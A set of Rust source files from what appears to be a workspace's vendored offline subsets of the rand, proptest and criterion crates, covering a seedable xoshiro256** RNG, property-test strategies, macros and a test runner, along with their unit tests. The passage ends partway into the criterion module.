impl<const N: usize> From<[u8; N]> for Bytes {
    fn from(v: [u8; N]) -> Self {
        Bytes {
            data: v.to_vec().into(),
        }
    }
}

impl<const N: usize> From<&[u8; N]> for Bytes {
    fn from(v: &[u8; N]) -> Self {
        Bytes {
            data: v.to_vec().into(),
        }
    }
}

impl PartialEq<[u8]> for Bytes {
    fn eq(&self, other: &[u8]) -> bool {
        &*self.data == other
    }
}

impl PartialEq<Vec<u8>> for Bytes {
    fn eq(&self, other: &Vec<u8>) -> bool {
        &*self.data == other.as_slice()
    }
}

impl FromIterator<u8> for Bytes {
    fn from_iter<T: IntoIterator<Item = u8>>(iter: T) -> Self {
        iter.into_iter().collect::<Vec<u8>>().into()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn clone_shares_storage_and_compares_equal() {
        let a: Bytes = vec![1u8, 2, 3].into();
        let b = a.clone();
        assert_eq!(a, b);
        assert_eq!(&a[..], &[1, 2, 3]);
        assert_eq!(a.len(), 3);
        assert!(!a.is_empty());
    }

    #[test]
    fn conversions() {
        assert_eq!(Bytes::from(b"hi".to_vec()).to_vec(), b"hi".to_vec());
        assert_eq!(Bytes::from("hi").len(), 2);
        assert!(Bytes::new().is_empty());
    }
}
