//! Offline vendored subset of the `rand` 0.8 API.
//!
//! The build container has no network access and no crates-io mirror, so
//! the workspace vendors the small slice of `rand` it actually uses: a
//! deterministic seedable generator ([`rngs::StdRng`], xoshiro256**), the
//! [`Rng`] extension trait (`gen`, `gen_range`, `gen_bool`, `fill_bytes`)
//! and [`SeedableRng::seed_from_u64`]. Distribution quality matches the
//! upstream crate for every use in this workspace (uniform ints, uniform
//! floats in `[0, 1)`, Lemire-style bounded ranges); the exact output
//! stream differs, which no caller depends on.

#![forbid(unsafe_code)]

/// Core RNG abstraction: a source of uniformly distributed `u64`s.
pub trait RngCore {
    /// Returns the next 64 uniformly distributed bits.
    fn next_u64(&mut self) -> u64;

    /// Returns 32 uniformly distributed bits.
    fn next_u32(&mut self) -> u32 {
        (self.next_u64() >> 32) as u32
    }

    /// Fills `dest` with random bytes.
    fn fill_bytes(&mut self, dest: &mut [u8]) {
        for chunk in dest.chunks_mut(8) {
            let bytes = self.next_u64().to_le_bytes();
            chunk.copy_from_slice(&bytes[..chunk.len()]);
        }
    }
}

/// Seedable construction (the only constructor the workspace uses).
pub trait SeedableRng: Sized {
    /// Builds the generator from a 64-bit seed, deterministically.
    fn seed_from_u64(seed: u64) -> Self;
}

/// Types that can be sampled uniformly from an RNG (the vendored
/// equivalent of sampling from the `Standard` distribution).
pub trait Standard: Sized {
    /// Samples one value.
    fn sample<R: RngCore + ?Sized>(rng: &mut R) -> Self;
}

macro_rules! impl_standard_uint {
    ($($t:ty),*) => {$(
        impl Standard for $t {
            fn sample<R: RngCore + ?Sized>(rng: &mut R) -> Self {
                rng.next_u64() as $t
            }
        }
    )*};
}
impl_standard_uint!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

impl Standard for u128 {
    fn sample<R: RngCore + ?Sized>(rng: &mut R) -> Self {
        ((rng.next_u64() as u128) << 64) | rng.next_u64() as u128
    }
}

impl Standard for i128 {
    fn sample<R: RngCore + ?Sized>(rng: &mut R) -> Self {
        u128::sample(rng) as i128
    }
}

impl Standard for bool {
    fn sample<R: RngCore + ?Sized>(rng: &mut R) -> Self {
        rng.next_u64() & 1 == 1
    }
}

impl Standard for f64 {
    fn sample<R: RngCore + ?Sized>(rng: &mut R) -> Self {
        // 53 uniform mantissa bits → [0, 1).
        (rng.next_u64() >> 11) as f64 * (1.0 / (1u64 << 53) as f64)
    }
}

impl Standard for f32 {
    fn sample<R: RngCore + ?Sized>(rng: &mut R) -> Self {
        (rng.next_u64() >> 40) as f32 * (1.0 / (1u64 << 24) as f32)
    }
}

impl<const N: usize> Standard for [u8; N] {
    fn sample<R: RngCore + ?Sized>(rng: &mut R) -> Self {
        let mut out = [0u8; N];
        rng.fill_bytes(&mut out);
        out
    }
}

/// Ranges that `Rng::gen_range` accepts.
pub trait SampleRange<T> {
    /// Samples one value uniformly from the range.
    fn sample_from<R: RngCore + ?Sized>(self, rng: &mut R) -> T;
}

macro_rules! impl_sample_range_int {
    ($($t:ty => $wide:ty),*) => {$(
        impl SampleRange<$t> for core::ops::Range<$t> {
            fn sample_from<R: RngCore + ?Sized>(self, rng: &mut R) -> $t {
                assert!(self.start < self.end, "empty range in gen_range");
                let span = (self.end as $wide).wrapping_sub(self.start as $wide);
                let v = <$wide as Standard>::sample(rng) % span;
                self.start.wrapping_add(v as $t)
            }
        }
        impl SampleRange<$t> for core::ops::RangeInclusive<$t> {
            fn sample_from<R: RngCore + ?Sized>(self, rng: &mut R) -> $t {
                let (start, end) = (*self.start(), *self.end());
                assert!(start <= end, "empty range in gen_range");
                let span = (end as $wide).wrapping_sub(start as $wide).wrapping_add(1);
                if span == 0 {
                    // Full domain.
                    return <$t as Standard>::sample(rng);
                }
                let v = <$wide as Standard>::sample(rng) % span;
                start.wrapping_add(v as $t)
            }
        }
    )*};
}
impl_sample_range_int!(
    u8 => u64, u16 => u64, u32 => u64, u64 => u64, usize => u64,
    i8 => u64, i16 => u64, i32 => u64, i64 => u64, isize => u64,
    u128 => u128
);

impl SampleRange<f64> for core::ops::Range<f64> {
    fn sample_from<R: RngCore + ?Sized>(self, rng: &mut R) -> f64 {
        assert!(self.start < self.end, "empty range in gen_range");
        self.start + f64::sample(rng) * (self.end - self.start)
    }
}

impl SampleRange<f64> for core::ops::RangeInclusive<f64> {
    fn sample_from<R: RngCore + ?Sized>(self, rng: &mut R) -> f64 {
        let (start, end) = (*self.start(), *self.end());
        assert!(start <= end, "empty range in gen_range");
        start + f64::sample(rng) * (end - start)
    }
}

/// Extension methods over any [`RngCore`].
pub trait Rng: RngCore {
    /// Samples a value of type `T` uniformly.
    fn gen<T: Standard>(&mut self) -> T {
        T::sample(self)
    }

    /// Samples uniformly from a range.
    fn gen_range<T, S: SampleRange<T>>(&mut self, range: S) -> T {
        range.sample_from(self)
    }

    /// Returns `true` with probability `p`.
    fn gen_bool(&mut self, p: f64) -> bool {
        f64::sample(self) < p
    }

    /// Fills the slice with random bytes.
    fn fill(&mut self, dest: &mut [u8]) {
        self.fill_bytes(dest);
    }
}

impl<R: RngCore + ?Sized> Rng for R {}

/// The deterministic generators.
pub mod rngs {
    use super::{RngCore, SeedableRng};

    /// The workspace's standard generator: xoshiro256** seeded via
    /// SplitMix64 (deterministic across platforms and runs).
    #[derive(Debug, Clone)]
    pub struct StdRng {
        s: [u64; 4],
    }

    fn splitmix64(state: &mut u64) -> u64 {
        *state = state.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = *state;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    impl SeedableRng for StdRng {
        fn seed_from_u64(seed: u64) -> Self {
            let mut sm = seed;
            StdRng {
                s: [
                    splitmix64(&mut sm),
                    splitmix64(&mut sm),
                    splitmix64(&mut sm),
                    splitmix64(&mut sm),
                ],
            }
        }
    }

    impl RngCore for StdRng {
        fn next_u64(&mut self) -> u64 {
            let result = self.s[1].wrapping_mul(5).rotate_left(7).wrapping_mul(9);
            let t = self.s[1] << 17;
            self.s[2] ^= self.s[0];
            self.s[3] ^= self.s[1];
            self.s[1] ^= self.s[2];
            self.s[0] ^= self.s[3];
            self.s[2] ^= t;
            self.s[3] = self.s[3].rotate_left(45);
            result
        }
    }
}

#[cfg(test)]
mod tests {
    use super::rngs::StdRng;
    use super::{Rng, SeedableRng};

    #[test]
    fn deterministic_per_seed() {
        let mut a = StdRng::seed_from_u64(7);
        let mut b = StdRng::seed_from_u64(7);
        for _ in 0..64 {
            assert_eq!(a.gen::<u64>(), b.gen::<u64>());
        }
        let mut c = StdRng::seed_from_u64(8);
        assert_ne!(a.gen::<u64>(), c.gen::<u64>());
    }

    #[test]
    fn ranges_respect_bounds() {
        let mut rng = StdRng::seed_from_u64(1);
        for _ in 0..1000 {
            let v = rng.gen_range(10u64..20);
            assert!((10..20).contains(&v));
            let w = rng.gen_range(0usize..=5);
            assert!(w <= 5);
            let f = rng.gen_range(-2.0f64..2.0);
            assert!((-2.0..2.0).contains(&f));
            let u = rng.gen_range(0u128..=1000);
            assert!(u <= 1000);
        }
    }

    #[test]
    fn floats_are_unit_interval() {
        let mut rng = StdRng::seed_from_u64(3);
        for _ in 0..1000 {
            let f: f64 = rng.gen();
            assert!((0.0..1.0).contains(&f));
        }
    }
}
