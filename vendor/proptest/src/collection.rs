//! Collection strategies (`prop::collection::vec`).

use crate::strategy::Strategy;
use crate::test_runner::TestRng;
use rand::Rng;
use std::ops::{Range, RangeInclusive};

/// Accepted size specifications for [`vec`].
#[derive(Debug, Clone)]
pub struct SizeRange {
    min: usize,
    max_inclusive: usize,
}

impl From<usize> for SizeRange {
    fn from(n: usize) -> Self {
        SizeRange {
            min: n,
            max_inclusive: n,
        }
    }
}

impl From<Range<usize>> for SizeRange {
    fn from(r: Range<usize>) -> Self {
        assert!(r.start < r.end, "empty size range");
        SizeRange {
            min: r.start,
            max_inclusive: r.end - 1,
        }
    }
}

impl From<RangeInclusive<usize>> for SizeRange {
    fn from(r: RangeInclusive<usize>) -> Self {
        assert!(r.start() <= r.end(), "empty size range");
        SizeRange {
            min: *r.start(),
            max_inclusive: *r.end(),
        }
    }
}

/// Strategy producing `Vec`s of an element strategy.
#[derive(Debug, Clone)]
pub struct VecStrategy<S> {
    element: S,
    size: SizeRange,
}

impl<S: Strategy> Strategy for VecStrategy<S> {
    type Value = Vec<S::Value>;
    fn new_value(&self, rng: &mut TestRng) -> Vec<S::Value> {
        let len = rng.gen_range(self.size.min..=self.size.max_inclusive);
        (0..len).map(|_| self.element.new_value(rng)).collect()
    }
}

/// `vec(element, len)`: vectors whose length is drawn from `size`.
pub fn vec<S: Strategy>(element: S, size: impl Into<SizeRange>) -> VecStrategy<S> {
    VecStrategy {
        element,
        size: size.into(),
    }
}

/// Strategy producing `BTreeMap`s from key/value strategies.
#[derive(Debug, Clone)]
pub struct BTreeMapStrategy<K, V> {
    key: K,
    value: V,
    size: SizeRange,
}

impl<K, V> Strategy for BTreeMapStrategy<K, V>
where
    K: Strategy,
    K::Value: Ord,
    V: Strategy,
{
    type Value = std::collections::BTreeMap<K::Value, V::Value>;
    fn new_value(&self, rng: &mut TestRng) -> Self::Value {
        // Duplicate keys collapse, so the map may come out smaller than
        // the drawn size — same semantics as upstream.
        let len = rng.gen_range(self.size.min..=self.size.max_inclusive);
        (0..len)
            .map(|_| (self.key.new_value(rng), self.value.new_value(rng)))
            .collect()
    }
}

/// `btree_map(key, value, len)`: maps whose entry count is drawn from
/// `size` (before key deduplication).
pub fn btree_map<K, V>(key: K, value: V, size: impl Into<SizeRange>) -> BTreeMapStrategy<K, V>
where
    K: Strategy,
    K::Value: Ord,
    V: Strategy,
{
    BTreeMapStrategy {
        key,
        value,
        size: size.into(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::arbitrary::any;
    use rand::SeedableRng;

    #[test]
    fn lengths_respect_bounds() {
        let mut rng = TestRng::seed_from_u64(2);
        for _ in 0..100 {
            let v = vec(any::<u8>(), 3..7).new_value(&mut rng);
            assert!((3..7).contains(&v.len()));
            let w = vec(0u8..5, 16..=16).new_value(&mut rng);
            assert_eq!(w.len(), 16);
            let nested = vec(vec(any::<bool>(), 0..3), 1..4).new_value(&mut rng);
            assert!(!nested.is_empty());
        }
    }
}
