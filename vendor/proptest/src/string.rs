//! Regex-lite string generation: the subset of regex syntax the
//! workspace's string strategies use — literals, escapes, character
//! classes with ranges, groups, and `{m}` / `{m,n}` / `?` / `*` / `+`
//! quantifiers. Anything else panics loudly at generation time.

use crate::test_runner::TestRng;
use rand::Rng;

/// Upper repetition bound for open-ended quantifiers (`*`, `+`).
const UNBOUNDED_MAX: u32 = 8;

#[derive(Debug, Clone)]
enum Atom {
    Literal(char),
    Class(Vec<char>),
    Group(Vec<(Atom, u32, u32)>),
}

struct Parser<'a> {
    chars: std::iter::Peekable<std::str::Chars<'a>>,
    pattern: &'a str,
}

impl Parser<'_> {
    fn fail(&self, what: &str) -> ! {
        panic!(
            "regex-lite: unsupported {what} in pattern {:?}",
            self.pattern
        );
    }

    fn parse_sequence(&mut self, in_group: bool) -> Vec<(Atom, u32, u32)> {
        let mut out = Vec::new();
        while let Some(&c) = self.chars.peek() {
            if c == ')' {
                if in_group {
                    break;
                }
                self.fail("unbalanced ')'");
            }
            let atom = match c {
                '[' => self.parse_class(),
                '(' => {
                    self.chars.next();
                    let inner = self.parse_sequence(true);
                    match self.chars.next() {
                        Some(')') => Atom::Group(inner),
                        _ => self.fail("unterminated group"),
                    }
                }
                '\\' => {
                    self.chars.next();
                    match self.chars.next() {
                        Some(escaped) => Atom::Literal(escaped),
                        None => self.fail("trailing backslash"),
                    }
                }
                '.' | '^' | '$' | '|' => self.fail("metacharacter"),
                _ => {
                    self.chars.next();
                    Atom::Literal(c)
                }
            };
            let (min, max) = self.parse_quantifier();
            out.push((atom, min, max));
        }
        out
    }

    fn parse_class(&mut self) -> Atom {
        self.chars.next(); // consume '['
        let mut options = Vec::new();
        let mut prev: Option<char> = None;
        loop {
            match self.chars.next() {
                Some(']') => break,
                Some('^') if options.is_empty() && prev.is_none() => self.fail("negated class"),
                Some('-') => {
                    // Range if between two chars, literal '-' at the edges.
                    match (prev, self.chars.peek().copied()) {
                        (Some(lo), Some(hi)) if hi != ']' => {
                            self.chars.next();
                            assert!(lo <= hi, "bad class range in regex-lite");
                            for c in lo..=hi {
                                if c != lo {
                                    options.push(c);
                                }
                            }
                            prev = None;
                        }
                        _ => {
                            options.push('-');
                            prev = Some('-');
                        }
                    }
                }
                Some('\\') => match self.chars.next() {
                    Some(escaped) => {
                        options.push(escaped);
                        prev = Some(escaped);
                    }
                    None => self.fail("trailing backslash in class"),
                },
                Some(c) => {
                    options.push(c);
                    prev = Some(c);
                }
                None => self.fail("unterminated class"),
            }
        }
        assert!(!options.is_empty(), "empty class in regex-lite");
        Atom::Class(options)
    }

    fn parse_quantifier(&mut self) -> (u32, u32) {
        match self.chars.peek() {
            Some('{') => {
                self.chars.next();
                let mut min = String::new();
                let mut max = String::new();
                let mut in_max = false;
                loop {
                    match self.chars.next() {
                        Some('}') => break,
                        Some(',') => in_max = true,
                        Some(d) if d.is_ascii_digit() => {
                            if in_max {
                                max.push(d);
                            } else {
                                min.push(d);
                            }
                        }
                        _ => self.fail("malformed quantifier"),
                    }
                }
                let min: u32 = min.parse().expect("quantifier minimum");
                let max: u32 = if !in_max {
                    min
                } else if max.is_empty() {
                    min + UNBOUNDED_MAX
                } else {
                    max.parse().expect("quantifier maximum")
                };
                assert!(min <= max, "inverted quantifier in regex-lite");
                (min, max)
            }
            Some('?') => {
                self.chars.next();
                (0, 1)
            }
            Some('*') => {
                self.chars.next();
                (0, UNBOUNDED_MAX)
            }
            Some('+') => {
                self.chars.next();
                (1, UNBOUNDED_MAX)
            }
            _ => (1, 1),
        }
    }
}

fn emit(seq: &[(Atom, u32, u32)], rng: &mut TestRng, out: &mut String) {
    for (atom, min, max) in seq {
        let reps = rng.gen_range(*min..=*max);
        for _ in 0..reps {
            match atom {
                Atom::Literal(c) => out.push(*c),
                Atom::Class(options) => {
                    out.push(options[rng.gen_range(0..options.len())]);
                }
                Atom::Group(inner) => emit(inner, rng, out),
            }
        }
    }
}

/// Generates one string matching `pattern`.
pub fn generate(pattern: &str, rng: &mut TestRng) -> String {
    let mut parser = Parser {
        chars: pattern.chars().peekable(),
        pattern,
    };
    let seq = parser.parse_sequence(false);
    let mut out = String::new();
    emit(&seq, rng, &mut out);
    out
}

#[cfg(test)]
mod tests {
    use super::generate;
    use crate::test_runner::TestRng;
    use rand::SeedableRng;

    #[test]
    fn workspace_patterns_generate_matching_strings() {
        let mut rng = TestRng::seed_from_u64(11);
        for _ in 0..200 {
            let s = generate("[a-z][a-z0-9-]{0,15}", &mut rng);
            assert!((1..=16).contains(&s.len()), "{s:?}");
            assert!(s.chars().next().unwrap().is_ascii_lowercase());
            assert!(s
                .chars()
                .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-'));

            let q = generate("[a-z0-9]{1,12}(\\.[a-z0-9]{1,12}){0,3}", &mut rng);
            for label in q.split('.') {
                assert!((1..=12).contains(&label.len()), "{q:?}");
            }

            let p = generate("/[a-z0-9/]{0,32}", &mut rng);
            assert!(p.starts_with('/') && p.len() <= 33);

            let t = generate("[a-zA-Z0-9_-]{1,24}", &mut rng);
            assert!((1..=24).contains(&t.len()));

            let c = generate("[a-c]", &mut rng);
            assert!(("a"..="c").contains(&c.as_str()));
        }
    }
}
