//! [`Arbitrary`] (full-domain generation) and [`any`].

use crate::strategy::Strategy;
use crate::test_runner::TestRng;
use rand::Rng;
use std::marker::PhantomData;

/// Types with a canonical full-domain strategy.
pub trait Arbitrary: Sized {
    /// Generates one unconstrained value.
    fn arbitrary(rng: &mut TestRng) -> Self;
}

macro_rules! impl_arbitrary_prim {
    ($($t:ty),*) => {$(
        impl Arbitrary for $t {
            fn arbitrary(rng: &mut TestRng) -> Self {
                rng.gen()
            }
        }
    )*};
}
impl_arbitrary_prim!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize, bool, f64, f32);

impl Arbitrary for u128 {
    fn arbitrary(rng: &mut TestRng) -> Self {
        ((rng.gen::<u64>() as u128) << 64) | rng.gen::<u64>() as u128
    }
}

impl Arbitrary for char {
    fn arbitrary(rng: &mut TestRng) -> Self {
        // Printable ASCII keeps generated text debuggable.
        rng.gen_range(0x20u32..0x7f) as u8 as char
    }
}

impl<const N: usize> Arbitrary for [u8; N] {
    fn arbitrary(rng: &mut TestRng) -> Self {
        rng.gen()
    }
}

/// The `any::<T>()` strategy.
#[derive(Debug, Clone, Copy)]
pub struct Any<T> {
    _marker: PhantomData<T>,
}

impl<T: Arbitrary> Strategy for Any<T> {
    type Value = T;
    fn new_value(&self, rng: &mut TestRng) -> T {
        T::arbitrary(rng)
    }
}

/// Full-domain strategy for `T`.
pub fn any<T: Arbitrary>() -> Any<T> {
    Any {
        _marker: PhantomData,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::SeedableRng;

    #[test]
    fn generates_all_supported_types() {
        let mut rng = TestRng::seed_from_u64(5);
        let _: bool = any::<bool>().new_value(&mut rng);
        let _: u16 = any::<u16>().new_value(&mut rng);
        let arr: [u8; 16] = any::<[u8; 16]>().new_value(&mut rng);
        assert_eq!(arr.len(), 16);
        let c: char = any::<char>().new_value(&mut rng);
        assert!(c.is_ascii() && !c.is_control());
    }
}
