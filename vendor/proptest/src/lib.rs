//! Offline vendored subset of the `proptest` API.
//!
//! The build container has no crates-io access, so the workspace vendors
//! the slice of proptest its test suites use: the [`proptest!`] macro,
//! `prop_assert*` macros, range/tuple/collection/string-regex strategies,
//! [`arbitrary::any`], `prop_map`, and `sample::select`. Values are
//! generated from a deterministic per-test RNG; there is **no shrinking**
//! — failures report the assertion message and case number only.
//!
//! Case count defaults to 64 and can be overridden with the
//! `PROPTEST_CASES` environment variable, mirroring upstream.

#![forbid(unsafe_code)]

pub mod arbitrary;
pub mod collection;
pub mod option;
pub mod sample;
pub mod strategy;
pub mod string;
pub mod test_runner;

/// The `prop::` namespace (`prop::collection::vec`, `prop::sample::select`).
pub mod prop {
    pub use crate::collection;
    pub use crate::sample;
}

/// Everything the test suites import.
pub mod prelude {
    pub use crate::arbitrary::{any, Arbitrary};
    pub use crate::prop;
    pub use crate::strategy::{Just, Strategy};
    pub use crate::{prop_assert, prop_assert_eq, prop_assert_ne, proptest};
}

/// Asserts a condition inside a [`proptest!`] body; on failure the current
/// case aborts with the formatted message.
#[macro_export]
macro_rules! prop_assert {
    ($cond:expr $(,)?) => {
        $crate::prop_assert!($cond, concat!("assertion failed: ", stringify!($cond)))
    };
    ($cond:expr, $($fmt:tt)+) => {
        if !$cond {
            return ::core::result::Result::Err(::std::format!($($fmt)*));
        }
    };
}

/// Asserts equality inside a [`proptest!`] body.
#[macro_export]
macro_rules! prop_assert_eq {
    ($left:expr, $right:expr) => {{
        let (left, right) = (&$left, &$right);
        $crate::prop_assert!(
            *left == *right,
            "assertion failed: `(left == right)`\n  left: `{:?}`\n right: `{:?}`",
            left,
            right
        );
    }};
    ($left:expr, $right:expr, $($fmt:tt)*) => {{
        let (left, right) = (&$left, &$right);
        $crate::prop_assert!(*left == *right, $($fmt)*);
    }};
}

/// Asserts inequality inside a [`proptest!`] body.
#[macro_export]
macro_rules! prop_assert_ne {
    ($left:expr, $right:expr) => {{
        let (left, right) = (&$left, &$right);
        $crate::prop_assert!(
            *left != *right,
            "assertion failed: `(left != right)`\n  both: `{:?}`",
            left
        );
    }};
    ($left:expr, $right:expr, $($fmt:tt)*) => {{
        let (left, right) = (&$left, &$right);
        $crate::prop_assert!(*left != *right, $($fmt)*);
    }};
}

/// Declares property tests: each `fn name(arg in strategy, ..) { body }`
/// becomes a `#[test]` that runs the body over generated cases.
#[macro_export]
macro_rules! proptest {
    ($($(#[$meta:meta])* fn $name:ident($($arg:pat in $strat:expr),+ $(,)?) $body:block)*) => {
        $(
            $(#[$meta])*
            fn $name() {
                $crate::test_runner::run(stringify!($name), |__xlf_proptest_rng| {
                    $(
                        let $arg = $crate::strategy::Strategy::new_value(
                            &($strat),
                            __xlf_proptest_rng,
                        );
                    )+
                    let __xlf_proptest_result: ::core::result::Result<(), ::std::string::String> =
                        (|| {
                            $body
                            ::core::result::Result::Ok(())
                        })();
                    __xlf_proptest_result
                });
            }
        )*
    };
}
