//! The minimal test runner: deterministic per-test RNG, fixed case count
//! (no shrinking).

use rand::rngs::StdRng;
use rand::SeedableRng;

/// RNG handed to strategies while generating one case.
pub type TestRng = StdRng;

/// Default number of generated cases per property.
pub const DEFAULT_CASES: u32 = 64;

fn cases() -> u32 {
    std::env::var("PROPTEST_CASES")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(DEFAULT_CASES)
}

/// FNV-1a over the test name: stable seed per property.
fn name_seed(name: &str) -> u64 {
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    for b in name.bytes() {
        h ^= b as u64;
        h = h.wrapping_mul(0x0000_0100_0000_01B3);
    }
    h
}

/// Runs `case` over the configured number of generated inputs; panics on
/// the first failure with the case index and message.
pub fn run<F>(name: &str, mut case: F)
where
    F: FnMut(&mut TestRng) -> Result<(), String>,
{
    let seed = name_seed(name);
    let total = cases();
    for i in 0..total {
        let mut rng = StdRng::seed_from_u64(seed ^ (i as u64).wrapping_mul(0x9E37_79B9_7F4A_7C15));
        if let Err(message) = case(&mut rng) {
            panic!("proptest `{name}` failed at case {i}/{total} (seed {seed:#x}):\n{message}");
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn runs_all_cases() {
        let mut count = 0;
        run("counting", |_| {
            count += 1;
            Ok(())
        });
        assert_eq!(count, cases());
    }

    #[test]
    #[should_panic(expected = "boom")]
    fn propagates_failures() {
        run("failing", |_| Err("boom".to_string()));
    }
}
