//! `Option` strategies (`proptest::option::of`).

use crate::strategy::Strategy;
use crate::test_runner::TestRng;
use rand::Rng;

/// Strategy producing `None` half the time, `Some(inner)` otherwise.
#[derive(Debug, Clone)]
pub struct OptionStrategy<S> {
    inner: S,
}

impl<S: Strategy> Strategy for OptionStrategy<S> {
    type Value = Option<S::Value>;
    fn new_value(&self, rng: &mut TestRng) -> Option<S::Value> {
        if rng.gen_bool(0.5) {
            Some(self.inner.new_value(rng))
        } else {
            None
        }
    }
}

/// Wraps a strategy's values in `Option`.
pub fn of<S: Strategy>(inner: S) -> OptionStrategy<S> {
    OptionStrategy { inner }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::SeedableRng;

    #[test]
    fn produces_both_variants() {
        let mut rng = TestRng::seed_from_u64(4);
        let strategy = of(0u8..10);
        let values: Vec<_> = (0..100).map(|_| strategy.new_value(&mut rng)).collect();
        assert!(values.iter().any(Option::is_some));
        assert!(values.iter().any(Option::is_none));
        assert!(values.iter().flatten().all(|&v| v < 10));
    }
}
