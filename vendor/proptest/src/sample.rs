//! Sampling strategies (`prop::sample::select`).

use crate::strategy::Strategy;
use crate::test_runner::TestRng;
use rand::Rng;

/// Strategy picking one element of a fixed list.
#[derive(Debug, Clone)]
pub struct Select<T: Clone> {
    options: Vec<T>,
}

impl<T: Clone> Strategy for Select<T> {
    type Value = T;
    fn new_value(&self, rng: &mut TestRng) -> T {
        self.options[rng.gen_range(0..self.options.len())].clone()
    }
}

/// Uniformly selects one of `options` (must be non-empty).
pub fn select<T: Clone>(options: Vec<T>) -> Select<T> {
    assert!(!options.is_empty(), "select() needs at least one option");
    Select { options }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::SeedableRng;

    #[test]
    fn selects_only_listed_values() {
        let mut rng = TestRng::seed_from_u64(3);
        let mut seen = [false; 3];
        for _ in 0..100 {
            let v = select(vec![0usize, 1, 2]).new_value(&mut rng);
            seen[v] = true;
        }
        assert!(seen.iter().all(|&s| s), "all options should appear");
    }
}
