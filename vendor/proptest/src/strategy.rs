//! The [`Strategy`] trait and the built-in strategies over ranges,
//! tuples, and constants.

use crate::test_runner::TestRng;
use rand::Rng;
use std::ops::{Range, RangeInclusive};

/// Generates values of `Self::Value` from an RNG.
pub trait Strategy {
    /// The generated type.
    type Value;

    /// Generates one value.
    fn new_value(&self, rng: &mut TestRng) -> Self::Value;

    /// Maps generated values through `f`.
    fn prop_map<O, F>(self, f: F) -> Map<Self, F>
    where
        Self: Sized,
        F: Fn(Self::Value) -> O,
    {
        Map { inner: self, f }
    }

    /// Discards generated values failing the predicate by resampling
    /// (bounded retries; panics if the predicate is too restrictive).
    fn prop_filter<F>(self, whence: &'static str, f: F) -> Filter<Self, F>
    where
        Self: Sized,
        F: Fn(&Self::Value) -> bool,
    {
        Filter {
            inner: self,
            whence,
            f,
        }
    }
}

/// Strategy returning a constant.
#[derive(Debug, Clone)]
pub struct Just<T: Clone>(pub T);

impl<T: Clone> Strategy for Just<T> {
    type Value = T;
    fn new_value(&self, _rng: &mut TestRng) -> T {
        self.0.clone()
    }
}

/// [`Strategy::prop_map`] adapter.
#[derive(Debug, Clone)]
pub struct Map<S, F> {
    inner: S,
    f: F,
}

impl<S, O, F> Strategy for Map<S, F>
where
    S: Strategy,
    F: Fn(S::Value) -> O,
{
    type Value = O;
    fn new_value(&self, rng: &mut TestRng) -> O {
        (self.f)(self.inner.new_value(rng))
    }
}

/// [`Strategy::prop_filter`] adapter.
#[derive(Debug, Clone)]
pub struct Filter<S, F> {
    inner: S,
    whence: &'static str,
    f: F,
}

impl<S, F> Strategy for Filter<S, F>
where
    S: Strategy,
    F: Fn(&S::Value) -> bool,
{
    type Value = S::Value;
    fn new_value(&self, rng: &mut TestRng) -> S::Value {
        for _ in 0..1000 {
            let v = self.inner.new_value(rng);
            if (self.f)(&v) {
                return v;
            }
        }
        panic!(
            "prop_filter rejected 1000 consecutive values: {}",
            self.whence
        );
    }
}

macro_rules! impl_range_strategy {
    ($($t:ty),*) => {$(
        impl Strategy for Range<$t> {
            type Value = $t;
            fn new_value(&self, rng: &mut TestRng) -> $t {
                rng.gen_range(self.clone())
            }
        }
        impl Strategy for RangeInclusive<$t> {
            type Value = $t;
            fn new_value(&self, rng: &mut TestRng) -> $t {
                rng.gen_range(self.clone())
            }
        }
    )*};
}
impl_range_strategy!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize, f64);

/// String literals are regex-lite strategies producing matching strings.
impl Strategy for &'static str {
    type Value = String;
    fn new_value(&self, rng: &mut TestRng) -> String {
        crate::string::generate(self, rng)
    }
}

macro_rules! impl_tuple_strategy {
    ($(($($name:ident . $idx:tt),+))*) => {$(
        impl<$($name: Strategy),+> Strategy for ($($name,)+) {
            type Value = ($($name::Value,)+);
            fn new_value(&self, rng: &mut TestRng) -> Self::Value {
                ($(self.$idx.new_value(rng),)+)
            }
        }
    )*};
}
impl_tuple_strategy! {
    (A.0)
    (A.0, B.1)
    (A.0, B.1, C.2)
    (A.0, B.1, C.2, D.3)
    (A.0, B.1, C.2, D.3, E.4)
    (A.0, B.1, C.2, D.3, E.4, F.5)
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::SeedableRng;

    #[test]
    fn ranges_tuples_map_filter() {
        let mut rng = TestRng::seed_from_u64(1);
        for _ in 0..200 {
            let v = (0i64..10).new_value(&mut rng);
            assert!((0..10).contains(&v));
            let (a, b) = (0u8..4, 10usize..=11).new_value(&mut rng);
            assert!(a < 4 && (10..=11).contains(&b));
            let doubled = (0u16..5).prop_map(|x| x * 2).new_value(&mut rng);
            assert!(doubled % 2 == 0 && doubled < 10);
            let even = (0u32..100)
                .prop_filter("even", |x| x % 2 == 0)
                .new_value(&mut rng);
            assert_eq!(even % 2, 0);
            assert_eq!(Just(9).new_value(&mut rng), 9);
        }
    }
}
