//! Offline vendored subset of the `criterion` benchmarking API.
//!
//! Implements the slice the XLF bench harness uses — benchmark groups,
//! `bench_function` / `bench_with_input`, throughput annotation, and the
//! `criterion_group!` / `criterion_main!` macros — with a simple
//! calibrate-then-sample measurement loop (median of `sample_size`
//! samples). Statistical depth (outlier analysis, HTML reports) is out of
//! scope; numbers print as `name  time: [median ns/iter]  thrpt: [..]`.

#![forbid(unsafe_code)]

use std::fmt;
use std::time::{Duration, Instant};

/// Target measurement time per sample during calibration.
const SAMPLE_TARGET: Duration = Duration::from_millis(10);

/// Re-exported for `b.iter(|| black_box(..))` call sites that import it
/// from criterion rather than `std::hint`.
